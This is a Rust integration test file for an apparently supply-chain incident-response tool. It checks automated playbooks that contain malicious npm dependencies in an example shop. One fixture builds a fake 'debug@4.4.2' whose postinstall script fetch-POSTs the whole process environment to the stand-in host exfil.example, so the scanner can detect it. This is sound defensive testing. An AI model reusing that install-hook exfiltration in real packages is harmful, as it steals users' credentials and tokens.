//! Issue 5, end to end: `ringfence scan --record` on the example web shop, with a
//! `ringfence.toml` holding a playbook, takes each malicious dependency to a contained
//! incident with no human step: opened with severity and commander, blocked, pin patch kept as
//! evidence, tasks added, tarball and inspection attached, credentials to rotate, and a
//! signed webhook delivered. Everything a playbook changes is a `playbook-step` on the
//! timeline, and a second identical scan changes nothing. Run on SQLite and PostgreSQL.

mod util;

use std::path::{Path, PathBuf};

use ringfence_registry::testing::{FixturePackage, FixtureRegistry};
use serde_json::Value;
use time::macros::datetime;
use util::receiver::{Receiver, Seen, free_port};
use util::{Ringfence, fix_debug_in_lockfile, repo_root, run};

const PLAYBOOK: &str = "malicious-npm-release";
const PLAYBOOK_ACTOR: &str = "playbook:malicious-npm-release";
/// Who runs the scans (`RINGFENCE_ACTOR`): the CI job, not a person.
const SCANNER: &str = "ci-scanner";

/// Declares two tests running `$body`: `$sqlite` on a fresh SQLite database, `$postgres` on a
/// schema of the PostgreSQL in `DATABASE_URL` (a pass that says "skipped" without one).
macro_rules! on_sqlite_and_postgres {
    ($body:ident, $sqlite:ident, $postgres:ident) => {
        #[test]
        fn $sqlite() {
            $body(Ringfence::new());
        }

        #[test]
        fn $postgres() {
            if let Some(rf) = Ringfence::postgres() {
                $body(rf);
            }
        }
    };
}

on_sqlite_and_postgres!(
    contained_without_a_human,
    scan_record_takes_the_example_to_contained_incidents_on_sqlite,
    scan_record_takes_the_example_to_contained_incidents_on_postgres
);

fn contained_without_a_human(rf: Ringfence) {
    let (registry, receiver, shop) = shop_with_receiver(rf);

    let scan = shop.scan();
    let recorded = &scan["recorded"];
    let opened: Vec<&str> = recorded["opened"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["title"].as_str().unwrap())
        .collect();
    assert_eq!(opened.len(), 3, "{recorded:#}");
    let debug = incident_of(&scan, "debug");
    let flatmap = incident_of(&scan, "flatmap-stream");
    let ua_parser = incident_of(&scan, "ua-parser-js");
    assert_eq!(debug, "INC-1", "{recorded:#}");

    // Every incident: opened, severity and commander set, blocked, tasked, evidenced,
    // notified, and moved on to eradication by the playbook alone.
    let blocklist = shop.json(&["block", "list", "--json"]);
    let seen = receiver.seen();
    for (id, package, version) in [
        (&debug, "debug", "4.4.2"),
        (&flatmap, "flatmap-stream", "0.1.1"),
        (&ua_parser, "ua-parser-js", "0.7.29"),
    ] {
        let inc = shop.show(id);
        assert_eq!(inc["stage"], "eradication", "auto-advanced: {inc:#}");
        assert_eq!(inc["severity"], "sev1", "{inc:#}");
        assert_eq!(inc["commander"], "alice", "from [team.commanders]: {inc:#}");
        assert_eq!(inc["type"], "malicious-dependency");

        let blocked: Vec<&Value> = blocklist
            .as_array()
            .unwrap()
            .iter()
            .filter(|b| b["incident"] == id.as_str())
            .collect();
        assert_eq!(blocked.len(), 1, "{blocklist:#}");
        assert_eq!(
            (
                &blocked[0]["ecosystem"],
                &blocked[0]["name"],
                &blocked[0]["version"]
            ),
            (
                &Value::from("npm"),
                &Value::from(package),
                &Value::from(version)
            )
        );
        assert_eq!(blocked[0]["added_by"], PLAYBOOK_ACTOR);

        let tasks = titles(&inc["tasks"], "title");
        assert!(
            tasks.contains(&"Rebuild CI runners that installed it".to_string()),
            "{tasks:?}"
        );
        let task = inc["tasks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["title"] == "Rebuild CI runners that installed it")
            .unwrap();
        assert_eq!(
            (&task["stage"], &task["owner"]),
            (&"eradication".into(), &"bob".into())
        );

        let evidence = titles(&inc["evidence"], "name");
        assert!(
            evidence.contains(&format!("{package}-{version}.tgz")),
            "{evidence:?}"
        );
        assert!(
            evidence.contains(&format!("{package}-{version}.inspection.json")),
            "{evidence:?}"
        );
        let tarball = registry.tarball(package, version).unwrap();
        assert_eq!(
            shop.evidence(id, &format!("{package}-{version}.tgz")),
            tarball,
            "the tarball as the registry served it"
        );
        let report: Value = serde_json::from_slice(
            &shop.evidence(id, &format!("{package}-{version}.inspection.json")),
        )
        .unwrap();
        assert_eq!(report["name"], package, "{report:#}");
        assert_eq!(report["version"], version, "{report:#}");

        // Exactly one POST per incident, signed with the secret of the webhook's secret-env.
        let posts: Vec<&Seen> = seen.iter().filter(|s| about(s) == id.as_str()).collect();
        assert_eq!(posts.len(), 1, "{seen:#?}");
        let post = posts[0];
        assert_eq!(
            (post.method.as_str(), post.path.as_str()),
            ("POST", "/hook")
        );
        assert_eq!(post.headers["x-ringfence-event"], "incident.opened");
        assert!(signature_verifies(post, SECRET), "{:?}", post.headers);
        assert!(!signature_verifies(post, "some other secret"));
        let body: Value = serde_json::from_slice(&post.body).unwrap();
        assert_eq!(body["details"]["playbook"], PLAYBOOK, "{body:#}");
        assert_eq!(body["incident"]["severity"], "sev1", "{body:#}");
        assert_eq!(body["incident"]["commander"], "alice", "{body:#}");

        // Nobody but the scanner and the playbook touched it, and every playbook change
        // belongs to a `playbook-step` event saying which step made it.
        let timeline = inc["timeline"].as_array().unwrap();
        let strangers: Vec<&Value> = timeline
            .iter()
            .filter(|e| e["actor"] != SCANNER && e["actor"] != PLAYBOOK_ACTOR)
            .collect();
        assert!(strangers.is_empty(), "a human step: {strangers:#?}");
        let steps = steps_with_their_changes(timeline);
        let expected_steps: &[&str] = if package == "debug" {
            &[
                "open-incident",
                "block",
                "pin",
                "add-tasks",
                "notify",
                "attach-evidence",
                "rotate-credentials",
            ]
        } else if package == "flatmap-stream" {
            // No pin (nothing unaffected exists) and nothing ran at install time.
            &[
                "open-incident",
                "block",
                "add-tasks",
                "notify",
                "attach-evidence",
            ]
        } else {
            &[
                "open-incident",
                "block",
                "pin",
                "add-tasks",
                "notify",
                "attach-evidence",
            ]
        };
        let names: Vec<&str> = steps.iter().map(|(s, _)| s.as_str()).collect();
        assert_eq!(names, expected_steps, "{timeline:#?}");
        let advanced: Vec<(String, String, String)> = timeline
            .iter()
            .filter(|e| e["kind"] == "stage-advanced")
            .map(|e| {
                let p = payload(e);
                (text(&e["actor"]), text(&p["from"]), text(&p["to"]))
            })
            .collect();
        let by_playbook = |from: &str, to: &str| (PLAYBOOK_ACTOR.into(), from.into(), to.into());
        assert_eq!(
            advanced,
            [
                by_playbook("identification", "containment"),
                by_playbook("containment", "eradication")
            ],
            "{timeline:#?}"
        );
    }

    // debug: pinned to 4.4.1, the newest release outside 4.4.2 that ^4.3.7 allows.
    let inc = shop.show(&debug);
    // The pin step fetched its version list: the release's own publish time (13:00) is
    // earlier than the advisory's (14:26), and time to detect starts there.
    assert_eq!(
        inc["packages"][0]["published"]["4.4.2"], "2025-09-08T13:00:00Z",
        "{inc:#}"
    );
    assert_eq!(inc["detectable_since"], "2025-09-08T13:00:00Z");
    let diff = String::from_utf8(shop.evidence(&debug, "pin-webshop-storefront.diff")).unwrap();
    assert!(
        diff.contains("--- a/storefront/package.json\n+++ b/storefront/package.json\n@@ "),
        "{diff}"
    );
    assert!(
        diff.contains("\n-    \"debug\": \"^4.3.7\",\n+    \"debug\": \"4.4.1\",\n"),
        "{diff}"
    );
    assert!(
        diff.contains("\n+  },\n+  \"overrides\": {\n+    \"debug\": \"$debug\"\n"),
        "{diff}"
    );
    let pin_step = step_outcome(&inc, "pin");
    assert!(
        pin_step.contains("webshop-storefront: debug → 4.4.1"),
        "{pin_step}"
    );
    // Its install script posted the environment: tasks to rotate what it could read.
    let tasks = titles(&inc["tasks"], "title");
    for secret in ["npm tokens", "cloud keys", "CI secrets"] {
        let task = tasks
            .iter()
            .find(|t| t.starts_with(&format!("Rotate {secret}")))
            .unwrap_or_else(|| panic!("no task to rotate {secret}: {tasks:?}"));
        assert!(task.ends_with("exposed to debug@4.4.2"), "{task}");
    }
    assert!(
        inc["tasks"]
            .as_array()
            .unwrap()
            .iter()
            .all(|t| t["owner"] == "bob")
    );
    // The lockfile as it was at detection is evidence too, byte for byte.
    assert_eq!(
        shop.evidence(&debug, "webshop-storefront-package-lock.json"),
        std::fs::read(shop.root.join("storefront/package-lock.json")).unwrap()
    );
    let report: Value =
        serde_json::from_slice(&shop.evidence(&debug, "debug-4.4.2.inspection.json")).unwrap();
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    let alerts = titles(&report["alerts"], "id");
    assert!(
        alerts.contains(&"env-exfiltration".to_string()),
        "{alerts:?}"
    );
    assert!(alerts.contains(&"install-script".to_string()), "{alerts:?}");
    let observables: Vec<(String, String)> = inc["observables"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            (
                o["type"].as_str().unwrap().into(),
                o["value"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert!(
        observables.contains(&("domain".into(), EXFIL_HOST.into())),
        "{observables:?}"
    );
    assert!(
        observables.contains(&(
            "sha256".into(),
            sha256_of(&registry.tarball("debug", "4.4.2").unwrap())
        )),
        "{observables:?}"
    );

    // ua-parser-js: a transitive dependency of a yarn project, pinned through `resolutions`
    // to the newest release before the bad one; its fixture runs nothing at install time, so
    // there is nothing to rotate.
    let inc = shop.show(&ua_parser);
    let diff = String::from_utf8(shop.evidence(&ua_parser, "pin-webshop-admin.diff")).unwrap();
    assert!(diff.contains("+++ b/admin/package.json"), "{diff}");
    assert!(diff.contains("\"ua-parser-js\": \"0.7.28\""), "{diff}");
    assert!(diff.contains("resolutions"), "{diff}");
    assert!(!diff.contains("0.7.30"), "{diff}");
    let tasks = titles(&inc["tasks"], "title");
    assert!(tasks.iter().all(|t| !t.starts_with("Rotate")), "{tasks:?}");

    // flatmap-stream: every published version is bad, so no pin; the run says why.
    let inc = shop.show(&flatmap);
    let evidence = titles(&inc["evidence"], "name");
    assert!(
        evidence.iter().all(|e| !e.starts_with("pin-")),
        "{evidence:?}"
    );
    let problems = titles(&recorded["playbooks"]["problems"], "");
    assert!(
        problems.iter().any(
            |p| p.starts_with(&format!("{flatmap}: no pin for flatmap-stream"))
                && p.contains("no unaffected version exists")
        ),
        "{problems:?}"
    );
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(recorded["playbooks"]["notifications_delivered"], 3);
    assert_eq!(recorded["playbooks"]["notifications_pending"], 0);

    // The same scan again changes nothing: no event, no POST, no new block.
    let before: Vec<Value> = [&debug, &flatmap, &ua_parser]
        .iter()
        .map(|id| shop.show(id)["timeline"].clone())
        .collect();
    let scan = shop.scan();
    assert_eq!(scan["recorded"]["opened"], Value::Array(vec![]), "{scan:#}");
    let after: Vec<Value> = [&debug, &flatmap, &ua_parser]
        .iter()
        .map(|id| shop.show(id)["timeline"].clone())
        .collect();
    assert_eq!(before, after, "the second scan added events");
    assert_eq!(receiver.seen().len(), 3, "the second scan notified again");
    assert_eq!(shop.json(&["block", "list", "--json"]), blocklist);
    let status = shop.json(&["notify", "status", "--json"]);
    assert_eq!(status["outbox"]["delivered"], 3, "{status:#}");
    assert_eq!(status["outbox"]["pending"], 0, "{status:#}");

    shop.assert_audit_verifies();
}

on_sqlite_and_postgres!(
    nothing_recorded_with_an_invalid_config,
    an_invalid_config_stops_the_scan_before_anything_is_recorded_on_sqlite,
    an_invalid_config_stops_the_scan_before_anything_is_recorded_on_postgres
);

fn nothing_recorded_with_an_invalid_config(rf: Ringfence) {
    let (registry, receiver, shop) = shop_with_receiver(rf);
    // A typo in the block step's `reason`: an unknown key, so the file is not applied at all.
    let good = config(receiver.port());
    let typo = good.replace(
        "action = \"block\"\n",
        "action = \"block\"\nreasn = \"malicious release\"\n",
    );
    assert_ne!(typo, good);
    let line = typo.lines().position(|l| l.starts_with("reasn")).unwrap() + 1;
    std::fs::write(shop.root.join("ringfence.toml"), &typo).unwrap();

    let (code, out, err) = shop.run(&["scan", ".", "--record", "--format", "json"]);
    assert_eq!(code, 2, "{out}\n{err}");
    assert!(err.contains(&format!("ringfence.toml:{line}:")), "{err}");
    assert!(err.contains("reasn"), "{err}");
    assert!(err.contains("nothing was done"), "{err}");
    assert_eq!(out, "", "no findings printed as if the scan ran");

    assert_eq!(
        shop.json(&["incident", "list", "--json"]),
        Value::Array(vec![])
    );
    assert_eq!(
        shop.json(&["block", "list", "--json"]),
        Value::Array(vec![])
    );
    let status = shop.json(&["notify", "status", "--json"]);
    assert_eq!(
        (&status["outbox"]["pending"], &status["outbox"]["delivered"]),
        (&Value::from(0), &Value::from(0)),
        "{status:#}"
    );
    assert!(registry.requests().is_empty(), "{:?}", registry.requests());
    assert!(receiver.seen().is_empty());

    // Fixed, the scan records: it is the database's first scan, so the failed one left none.
    std::fs::write(shop.root.join("ringfence.toml"), &good).unwrap();
    let scan = shop.scan();
    assert_eq!(scan["recorded"]["scan"], 1, "{:#}", scan["recorded"]);
    assert_eq!(incident_of(&scan, "debug"), "INC-1");
}

on_sqlite_and_postgres!(
    notifications_wait_for_the_receiver,
    a_webhook_that_is_down_gets_its_notifications_later_on_sqlite,
    a_webhook_that_is_down_gets_its_notifications_later_on_postgres
);

fn notifications_wait_for_the_receiver(rf: Ringfence) {
    let registry = registry();
    let port = free_port();
    let shop = Shop::new(rf, &registry, port);

    // Nothing listens: the scan still contains everything, and the messages wait.
    let scan = shop.scan();
    let run = &scan["recorded"]["playbooks"];
    assert_eq!(run["notifications_delivered"], 0, "{run:#}");
    assert_eq!(run["notifications_pending"], 3, "{run:#}");
    let debug = incident_of(&scan, "debug");
    let inc = shop.show(&debug);
    assert_eq!(inc["stage"], "eradication", "{inc:#}");
    assert_eq!(
        step_outcome(&inc, "notify"),
        "notification queued for webhook security"
    );

    let (code, out, err) = shop.run(&["notify", "status", "--json"]);
    assert_eq!(code, 1, "a failing message makes status exit 1: {out}{err}");
    let status: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(status["outbox"]["pending"], 3, "{status:#}");
    assert_eq!(status["outbox"]["delivered"], 0, "{status:#}");
    let pending = status["pending"].as_array().unwrap();
    let mut incidents = titles(&status["pending"], "incident");
    incidents.sort();
    assert_eq!(incidents, ["INC-1", "INC-2", "INC-3"], "{status:#}");
    for m in pending {
        assert_eq!(m["webhook"], "security", "{m:#}");
        assert_eq!(m["event"], "incident.opened", "{m:#}");
        assert_eq!(m["attempts"], 1, "the scan tried once: {m:#}");
        let error = text(&m["last_error"]).to_lowercase();
        assert!(error.contains("connect"), "{error}");
    }

    // The receiver comes up; `deliver --all` sends now, each message once, signed.
    let receiver = Receiver::start(port, 200);
    let round = shop.json(&["notify", "deliver", "--all", "--json"]);
    assert_eq!(
        (&round["delivered"], &round["failed"]),
        (&Value::from(3), &Value::from(0)),
        "{round:#}"
    );
    let seen = receiver.seen();
    let mut about_incidents: Vec<String> = seen.iter().map(about).collect();
    about_incidents.sort();
    assert_eq!(about_incidents, ["INC-1", "INC-2", "INC-3"]);
    assert!(
        seen.iter().all(|s| signature_verifies(s, SECRET)),
        "{seen:#?}"
    );
    let status = shop.json(&["notify", "status", "--json"]);
    assert_eq!(status["outbox"]["pending"], 0, "{status:#}");
    assert_eq!(status["outbox"]["delivered"], 3, "{status:#}");

    // Nothing is sent twice: not by another round, not by the next scan.
    let round = shop.json(&["notify", "deliver", "--all", "--json"]);
    assert_eq!(round["delivered"], 0, "{round:#}");
    shop.scan();
    assert_eq!(receiver.seen().len(), 3);
}

on_sqlite_and_postgres!(
    a_new_exposure_reruns_the_playbook_idempotently,
    a_scan_that_touches_an_incident_again_repeats_no_step_on_sqlite,
    a_scan_that_touches_an_incident_again_repeats_no_step_on_postgres
);

/// A second project that resolves the same bad versions joins the incidents, so the playbook
/// runs again: only the new project's pin patch is new; every other step finds its work done.
fn a_new_exposure_reruns_the_playbook_idempotently(rf: Ringfence) {
    // The registry must keep serving while the shop scans, though nothing here reads it.
    let (_registry, receiver, shop) = shop_with_receiver(rf);
    let scan = shop.scan();
    let debug = incident_of(&scan, "debug");
    let flatmap = incident_of(&scan, "flatmap-stream");
    let ua_parser = incident_of(&scan, "ua-parser-js");
    let before: Vec<Value> = [&debug, &flatmap, &ua_parser]
        .iter()
        .map(|id| shop.show(id))
        .collect();
    let blocklist = shop.json(&["block", "list", "--json"]);

    let checkout = shop.root.join("checkout");
    copy_dir(&shop.root.join("storefront"), &checkout);
    for file in ["package.json", "package-lock.json"] {
        let path = checkout.join(file);
        let renamed = std::fs::read_to_string(&path)
            .unwrap()
            .replace("webshop-storefront", "webshop-checkout");
        std::fs::write(&path, renamed).unwrap();
    }
    let scan = shop.scan();
    let recorded = &scan["recorded"];
    assert_eq!(recorded["opened"], Value::Array(vec![]), "{recorded:#}");
    let mut updated = titles(&recorded["updated"], "incident");
    updated.sort();
    assert_eq!(updated, [debug.clone(), flatmap.clone()], "{recorded:#}");

    // debug: the scanner's project-exposed and the new lockfile as evidence, then the pin step
    // for the new project only.
    let after = shop.show(&debug);
    let old_len = before[0]["timeline"].as_array().unwrap().len();
    let new_events: Vec<(String, String)> = after["timeline"].as_array().unwrap()[old_len..]
        .iter()
        .map(|e| (text(&e["actor"]), text(&e["kind"])))
        .collect();
    let by = |actor: &str, kind: &str| (actor.to_string(), kind.to_string());
    assert_eq!(
        new_events,
        [
            by(SCANNER, "project-exposed"),
            by(SCANNER, "evidence-added"),
            by(PLAYBOOK_ACTOR, "evidence-added"),
            by(PLAYBOOK_ACTOR, "playbook-step"),
        ],
        "{:#?}",
        &after["timeline"].as_array().unwrap()[old_len..]
    );
    assert_eq!(
        step_outcome_last(&after, "pin"),
        "pin patches: webshop-checkout: debug → 4.4.1"
    );
    let diff = String::from_utf8(shop.evidence(&debug, "pin-webshop-checkout.diff")).unwrap();
    assert!(diff.contains("+++ b/checkout/package.json"), "{diff}");
    assert!(diff.contains("\n+    \"debug\": \"4.4.1\",\n"), "{diff}");
    assert_eq!(after["tasks"], before[0]["tasks"]);
    assert_eq!(after["observables"], before[0]["observables"]);
    assert_eq!(after["stage"], "eradication");

    // flatmap-stream: only the new exposure and its lockfile (still nothing to pin to).
    let after = shop.show(&flatmap);
    let old_len = before[1]["timeline"].as_array().unwrap().len();
    let new_kinds: Vec<String> = titles(
        &Value::Array(after["timeline"].as_array().unwrap()[old_len..].to_vec()),
        "kind",
    );
    assert_eq!(new_kinds, ["project-exposed", "evidence-added"]);
    let problems = titles(&recorded["playbooks"]["problems"], "");
    assert!(
        problems
            .iter()
            .any(|p| p.contains("no pin for flatmap-stream in webshop-checkout")),
        "{problems:?}"
    );

    // ua-parser-js was not touched; nothing was blocked or sent again.
    assert_eq!(shop.show(&ua_parser)["timeline"], before[2]["timeline"]);
    assert_eq!(shop.json(&["block", "list", "--json"]), blocklist);
    assert_eq!(receiver.seen().len(), 3, "{:#?}", receiver.seen());
    shop.assert_audit_verifies();
}

on_sqlite_and_postgres!(
    a_re_opened_incident_is_notified_and_contained_again,
    a_version_that_comes_back_re_opens_and_notifies_on_sqlite,
    a_version_that_comes_back_re_opens_and_notifies_on_postgres
);

/// debug@4.4.2 is fixed, the incident closed; a later bump brings it back. The same incident
/// re-opens, the playbook tells the team (`incident.reopened`) and, the block still holding,
/// takes it back to eradication.
fn a_re_opened_incident_is_notified_and_contained_again(rf: Ringfence) {
    let (_registry, receiver, shop) = shop_with_receiver(rf);
    let debug = incident_of(&shop.scan(), "debug");
    let lockfile = shop.root.join("storefront/package-lock.json");
    let original = std::fs::read(&lockfile).unwrap();
    fix_debug_in_lockfile(&lockfile);
    shop.scan();
    for _ in 0..3 {
        shop.json(&[
            "incident", "advance", &debug, "--force", "--reason", "fixed", "--json",
        ]);
    }
    assert_eq!(shop.show(&debug)["stage"], "closed");
    let sent = receiver.seen().len();

    std::fs::write(&lockfile, &original).unwrap();
    let scan = shop.scan();
    assert_eq!(scan["recorded"]["opened"], Value::Array(vec![]), "{scan:#}");
    let inc = shop.show(&debug);
    assert_eq!(inc["reopenings"][0]["from"], "closed", "{inc:#}");
    assert_eq!(inc["stage"], "eradication", "{inc:#}");
    let seen = receiver.seen();
    assert_eq!(seen.len(), sent + 1, "{seen:#?}");
    let last = seen.last().unwrap();
    assert_eq!(last.headers["x-ringfence-event"], "incident.reopened");
    assert_eq!(about(last), debug);

    // Recorded again: nothing new, nothing sent.
    shop.scan();
    assert_eq!(receiver.seen().len(), sent + 1);
    shop.assert_audit_verifies();
}

// ── Reading what ringfence recorded ─────────────────────────────────────────────────────────

/// The incident the first scan opened for `package`.
fn incident_of(scan: &Value, package: &str) -> String {
    let opened = scan["recorded"]["opened"].as_array().unwrap();
    let found = opened
        .iter()
        .find(|o| text(&o["title"]).starts_with(&format!("{package}@")))
        .unwrap_or_else(|| panic!("no incident for {package}: {opened:#?}"));
    text(&found["incident"])
}

fn text(v: &Value) -> String {
    v.as_str()
        .unwrap_or_else(|| panic!("not a string: {v}"))
        .to_string()
}

/// `key` of every element of an array (the elements themselves when `key` is empty).
fn titles(array: &Value, key: &str) -> Vec<String> {
    array
        .as_array()
        .unwrap_or_else(|| panic!("not an array: {array}"))
        .iter()
        .map(|e| {
            if key.is_empty() {
                text(e)
            } else {
                text(&e[key])
            }
        })
        .collect()
}

/// A timeline event's change, parsed.
fn payload(event: &Value) -> Value {
    serde_json::from_str(event["payload"].as_str().unwrap()).unwrap()
}

/// The outcome the `playbook-step` event of `step` recorded.
fn step_outcome(incident: &Value, step: &str) -> String {
    let timeline = incident["timeline"].as_array().unwrap();
    timeline
        .iter()
        .filter(|e| e["kind"] == "playbook-step")
        .map(payload)
        .find(|p| p["step"] == step)
        .map(|p| text(&p["outcome"]))
        .unwrap_or_else(|| panic!("no playbook-step {step}: {timeline:#?}"))
}

/// The outcome of the last `playbook-step` event of `step`.
fn step_outcome_last(incident: &Value, step: &str) -> String {
    let timeline = incident["timeline"].as_array().unwrap();
    timeline
        .iter()
        .rev()
        .filter(|e| e["kind"] == "playbook-step")
        .map(payload)
        .find(|p| p["step"] == step)
        .map(|p| text(&p["outcome"]))
        .unwrap_or_else(|| panic!("no playbook-step {step}: {timeline:#?}"))
}

/// The kinds of change each step may make.
fn changes_of(step: &str) -> &'static [&'static str] {
    match step {
        "open-incident" => &["severity-set", "commander-assigned"],
        "block" => &["blocked"],
        "pin" => &["evidence-added"],
        "add-tasks" | "rotate-credentials" => &["task-added"],
        "notify" => &[],
        "attach-evidence" => &["evidence-added", "observable-added"],
        other => panic!("unknown step {other}"),
    }
}

/// The playbook's `playbook-step` events in order, each with the changes recorded just
/// before it in the same run. Fails when a playbook change has no step event after it, or a
/// step made a change that is not its own.
fn steps_with_their_changes(timeline: &[Value]) -> Vec<(String, Vec<String>)> {
    let mut steps = Vec::new();
    let mut pending: Vec<String> = Vec::new();
    for event in timeline.iter().filter(|e| e["actor"] == PLAYBOOK_ACTOR) {
        let kind = text(&event["kind"]);
        match kind.as_str() {
            "playbook-step" => {
                let p = payload(event);
                assert_eq!(p["playbook"], PLAYBOOK, "{event:#}");
                let step = text(&p["step"]);
                let allowed = changes_of(&step);
                assert!(
                    pending.iter().all(|k| allowed.contains(&k.as_str())),
                    "step {step} recorded {pending:?}"
                );
                assert!(
                    step == "notify" || !pending.is_empty(),
                    "step {step} says it changed something but recorded no change"
                );
                steps.push((step, std::mem::take(&mut pending)));
            }
            // The advance after the steps is the playbook's own, not a configured step.
            "stage-advanced" => assert!(
                pending.is_empty(),
                "{pending:?} without a playbook-step: {timeline:#?}"
            ),
            _ => pending.push(kind),
        }
    }
    assert!(
        pending.is_empty(),
        "playbook changes without a playbook-step: {pending:?}"
    );
    steps
}

/// The incident a webhook POST was about.
fn about(seen: &Seen) -> String {
    let body: Value = serde_json::from_slice(&seen.body).unwrap();
    text(&body["incident"]["id"])
}

fn sha256_of(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The receiver's check with the RustCrypto `hmac` crate: HMAC-SHA256 over
/// `timestamp.body`, hex in `X-Ringfence-Signature: sha256=…`.
fn signature_verifies(seen: &Seen, secret: &str) -> bool {
    use hmac::{Hmac, Mac};
    let (Some(timestamp), Some(signature)) = (
        seen.headers.get("x-ringfence-timestamp"),
        seen.headers.get("x-ringfence-signature"),
    ) else {
        return false;
    };
    let Some(hex) = signature.strip_prefix("sha256=") else {
        return false;
    };
    let Some(expected) = hex
        .as_bytes()
        .chunks(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
        .collect::<Option<Vec<u8>>>()
    else {
        return false;
    };
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(secret.as_bytes()).unwrap();
    mac.update(timestamp.as_bytes());
    mac.update(b".");
    mac.update(&seen.body);
    mac.verify_slice(&expected).is_ok()
}

// ── The example shop, its configuration and its registry ──────────────────────────────────

/// The environment variable the webhook's HMAC secret is read from, and the secret.
const SECRET_VAR: &str = "RF_TEST_SECRET";
const SECRET: &str = "playbooks sign what they send";

/// The host the fixture's install script posts the environment to.
const EXFIL_HOST: &str = "exfil.example";

/// The organisation's configuration: one playbook for malicious npm releases, every step.
fn config(port: u16) -> String {
    format!(
        r#"[team]
responders = [ {{ name = "alice", contact = "@alice" }}, {{ name = "bob", contact = "bob@example.com" }} ]

[team.commanders]
malicious-dependency = "alice"
vulnerable-dependency = "bob"
compromised-credential = "alice"
other = "alice"

[[playbooks]]
name = "malicious-npm-release"

[playbooks.trigger]
findings = ["known-malware", "malicious"]
ecosystems = ["npm"]

[[playbooks.steps]]
action = "open-incident"
type = "malicious-dependency"
severity = "sev1"

[[playbooks.steps]]
action = "block"

[[playbooks.steps]]
action = "pin"

[[playbooks.steps]]
action = "add-tasks"
tasks = [ {{ stage = "eradication", title = "Rebuild CI runners that installed it", owner = "bob" }} ]

[[playbooks.steps]]
action = "notify"
webhook = "security"

[[playbooks.steps]]
action = "attach-evidence"

[[playbooks.steps]]
action = "rotate-credentials"
owner = "bob"

[webhooks.security]
url = "http://127.0.0.1:{port}/hook"
format = "json"
secret-env = "{SECRET_VAR}"
"#
    )
}

fn clean(name: &str, version: &str) -> FixturePackage {
    FixturePackage::new(name, version)
        .file(
            "index.js",
            "module.exports = function () { return null; };\n",
        )
        .published_at(datetime!(2024-06-01 00:00:00 UTC))
}

/// debug@4.4.2 as a stealer: its postinstall posts the whole environment away.
fn debug_stealer() -> FixturePackage {
    FixturePackage::new("debug", "4.4.2")
        .file("src/index.js", "module.exports = () => () => {};\n")
        .file(
            "steal.js",
            format!(
                "fetch('https://{EXFIL_HOST}/c', {{ method: 'POST', body: JSON.stringify(process.env) }});\n"
            ),
        )
        .script("postinstall", "node steal.js")
        .published_at(datetime!(2025-09-08 13:00:00 UTC))
}

/// What the playbook steps need of the example's three malicious packages: debug with good
/// releases on either side of the range, flatmap-stream with nothing to pin to, and
/// ua-parser-js with a release before and after the hijacked one.
fn registry() -> FixtureRegistry {
    FixtureRegistry::serve([
        clean("debug", "4.3.7"),
        clean("debug", "4.4.1"),
        debug_stealer(),
        FixturePackage::new("flatmap-stream", "0.1.1")
            .file(
                "index.min.js",
                "module.exports = function (s) { return s; };\n",
            )
            .published_at(datetime!(2018-09-09 00:00:00 UTC)),
        clean("ua-parser-js", "0.7.28"),
        FixturePackage::new("ua-parser-js", "0.7.29")
            .file("index.js", "module.exports = {};\n")
            .published_at(datetime!(2021-10-22 12:00:00 UTC)),
        clean("ua-parser-js", "0.7.30"),
    ])
    .unwrap()
}

/// A responder's copy of examples/webshop with the configuration beside it, a home without
/// the user's npm configuration, and the fixture registry as npm's.
struct Shop {
    rf: Ringfence,
    root: PathBuf,
    registry: String,
}

impl Shop {
    fn new(rf: Ringfence, registry: &FixtureRegistry, port: u16) -> Shop {
        let root = rf.dir.path().join("webshop");
        copy_dir(&repo_root().join("examples/webshop"), &root);
        std::fs::write(root.join("ringfence.toml"), config(port)).unwrap();
        let home = rf.dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(
            home.join(".npmrc"),
            format!("registry={}\n", registry.url()),
        )
        .unwrap();
        Shop {
            rf,
            root,
            registry: registry.url().to_string(),
        }
    }

    fn cmd(&self) -> assert_cmd::Command {
        let home = self.rf.dir.path().join("home");
        let mut cmd = self.rf.cmd();
        cmd.current_dir(&self.root)
            .env("RINGFENCE_ACTOR", "ci-scanner")
            .env(SECRET_VAR, SECRET)
            .env("HOME", &home)
            .env("XDG_CACHE_HOME", self.rf.dir.path().join("cache"))
            .env("npm_config_registry", &self.registry)
            .env_remove("NPM_CONFIG_REGISTRY")
            .env_remove("npm_config_userconfig")
            .env_remove("NPM_CONFIG_USERCONFIG")
            .env_remove("RINGFENCE_CONFIG");
        cmd
    }

    fn run(&self, args: &[&str]) -> (i32, String, String) {
        run(self.cmd().args(args))
    }

    /// `scan . --record --format json` from the shop's folder: exit 1, the malware found.
    fn scan(&self) -> Value {
        let (code, out, err) = self.run(&["scan", ".", "--record", "--format", "json"]);
        assert_eq!(code, 1, "{out}\n{err}");
        serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}"))
    }

    /// Every hash chain in the database verifies.
    fn assert_audit_verifies(&self) {
        let (code, out, err) = self.run(&["audit", "verify"]);
        assert_eq!(code, 0, "{out}{err}");
    }

    /// A command that must succeed, its JSON output parsed.
    fn json(&self, args: &[&str]) -> Value {
        let (code, out, err) = self.run(args);
        assert_eq!(code, 0, "ringfence {args:?}\n{out}\n{err}");
        serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}"))
    }

    fn show(&self, id: &str) -> Value {
        self.json(&["incident", "show", id, "--json"])
    }

    /// The bytes of the evidence named `name`, as `incident evidence get` writes them.
    fn evidence(&self, id: &str, name: &str) -> Vec<u8> {
        let inc = self.show(id);
        let evidence = inc["evidence"].as_array().unwrap();
        let sha = evidence
            .iter()
            .find(|e| e["name"] == name)
            .map(|e| text(&e["sha256"]))
            .unwrap_or_else(|| panic!("{id} has no evidence {name}: {evidence:#?}"));
